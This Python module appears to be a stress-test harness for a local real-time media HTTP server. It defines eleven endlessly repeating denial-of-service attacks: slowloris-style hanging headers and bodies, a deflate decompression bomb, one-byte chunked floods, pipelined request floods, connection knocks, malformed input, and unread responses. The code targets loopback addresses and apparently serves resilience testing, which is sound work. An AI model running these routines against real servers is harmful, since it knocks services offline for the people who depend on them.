"""What somebody who means harm sends to the HTTP side: each attack goes on until it is cancelled."""

from __future__ import annotations

import asyncio
import contextlib
import itertools
import random
import zlib
from collections.abc import Awaitable, Callable
from dataclasses import dataclass
from urllib.parse import urlsplit

SOURCE = "127.0.0.66"  # another address than the neighbour's
MUTATION = b"Host: 127.0.0.1\r\nX-Requested-With: realtime-dub\r\n"
Work = Callable[[], Awaitable[None]]


@dataclass(frozen=True)
class Target:
    """The server, and a token that only some attacks know."""

    url: str
    token: str

    async def connect(self, data: bytes = b"") -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
        parts = urlsplit(self.url)
        reader, writer = await asyncio.open_connection(parts.hostname, parts.port, local_addr=(SOURCE, 0))
        writer.write(data)
        return reader, writer

    @property
    def bearer(self) -> bytes:
        return b"Authorization: Bearer " + self.token.encode() + b"\r\n"


async def many(count: int, work: Work) -> None:
    """So many at once, each begun again when it is over, whatever became of it."""

    async def again() -> None:
        while True:
            with contextlib.suppress(OSError, asyncio.IncompleteReadError, asyncio.LimitOverrunError):
                await work()
            await asyncio.sleep(0.01)

    await asyncio.gather(*(again() for _ in range(count)))


async def hold(target: Target, data: bytes, drip: bytes = b"", every_s: float = 1.0) -> None:
    """Keep a connection, as long as the server does."""
    reader, writer = await target.connect(data)
    try:
        while not reader.at_eof():
            writer.write(drip)
            await writer.drain()
            with contextlib.suppress(TimeoutError):
                await asyncio.wait_for(reader.read(65_536), every_s)
    finally:
        writer.transport.abort()


async def silent(target: Target) -> None:
    """1,120 connections that say nothing."""
    await many(1_120, lambda: hold(target, b"", every_s=60))


async def headers(target: Target) -> None:
    """250 requests whose headers never end."""
    await many(250, lambda: hold(target, b"GET / HTTP/1.1\r\n", b"X: 1\r\n"))


async def bodies(target: Target) -> None:
    """250 requests with the token whose bodies never end."""
    head = b"POST /api/sessions HTTP/1.1\r\n" + MUTATION + target.bearer + b"Content-Length: 100000\r\n\r\n"
    await many(250, lambda: hold(target, head, b" "))


async def bombs(target: Target) -> None:
    """Bodies of 100 MB that unpack to 100 GB, without the token."""
    packer = zlib.compressobj(9)
    packer.compress(bytes(10_000_000))
    packer.flush(zlib.Z_FULL_FLUSH)
    block = packer.compress(bytes(10_000_000)) + packer.flush(zlib.Z_FULL_FLUSH)
    head = (
        b"POST /api/sessions HTTP/1.1\r\n"
        + MUTATION
        + b"Content-Encoding: deflate\r\nContent-Length: 100000000\r\n\r\n"
    )
    await many(8, lambda: hold(target, head, block * 100, 0.01))


async def chunks(target: Target) -> None:
    """Bodies in chunks of one byte, without the token."""
    head = b"POST /whip/a HTTP/1.1\r\n" + MUTATION + b"Transfer-Encoding: chunked\r\n\r\n"
    await many(20, lambda: hold(target, head, b"1\r\na\r\n" * 40_000, 0.001))


async def known_chunks(target: Target) -> None:
    """The same with the token."""
    kind = b"Content-Type: application/sdp\r\n"
    head = b"POST /whip/a HTTP/1.1\r\n" + MUTATION + target.bearer + kind + b"Transfer-Encoding: chunked\r\n\r\n"
    await many(20, lambda: hold(target, head, b"1\r\na\r\n" * 40_000, 0.001))


async def requests(target: Target) -> None:
    """As many requests as will go, many to a connection, without the token."""
    await many(50, lambda: hold(target, b"", b"GET /api/config HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n" * 30, 0.001))


async def known_requests(target: Target) -> None:
    """The same with the token."""
    request = b"GET /metrics HTTP/1.1\r\nHost: 127.0.0.1\r\n" + target.bearer + b"\r\n"
    await many(50, lambda: hold(target, b"", request * 30, 0.001))


async def knocks(target: Target) -> None:
    """Connections that are closed as soon as they are there."""

    async def knock() -> None:
        _, writer = await target.connect()
        writer.transport.abort()

    await many(100, knock)


async def nonsense(target: Target) -> None:
    """What is no HTTP."""
    some = random.Random(1)
    lines = (
        b"\x16\x03\x01" + some.randbytes(40),
        b"GET /%ff HTTP/1.1\r\nHost\r\n\r\n",
        some.randbytes(400) + b"\r\n\r\n",
    )
    each = itertools.cycle(lines)
    await many(50, lambda: hold(target, next(each), every_s=5))


async def unread(target: Target) -> None:
    """250 connections that ask for the page's parts and read nothing."""

    async def ask() -> None:
        _, writer = await target.connect(b"GET /static/main.js HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n" * 30)
        writer.transport.pause_reading()  # type: ignore[attr-defined]
        try:
            await asyncio.sleep(20)
        finally:
            writer.transport.abort()

    await many(250, ask)


ATTACKS: dict[str, Callable[[Target], Awaitable[None]]] = {
    each.__name__: each
    for each in (
        silent,
        headers,
        bodies,
        bombs,
        chunks,
        known_chunks,
        requests,
        known_requests,
        knocks,
        nonsense,
        unread,
    )
}
